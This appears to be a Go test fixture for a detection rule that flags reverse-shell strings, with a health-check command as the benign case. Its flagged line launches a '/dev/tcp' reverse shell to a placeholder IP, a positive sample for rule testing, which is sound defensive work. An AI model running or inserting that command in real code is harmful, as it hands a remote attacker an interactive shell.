// Fixture for generic-reverse-shell-string.
// RULEID: sh -c with a /dev/tcp one-liner. OK: a health-check command.
package main

import "os/exec"

func run() {
	// ruleid: generic-reverse-shell-string
	exec.Command("sh", "-c", "sh -i >& /dev/tcp/198.51.100.9/443 0>&1").Start()
	// ok: generic-reverse-shell-string
	exec.Command("sh", "-c", "curl -fsS http://localhost:8080/healthz").Run()
}
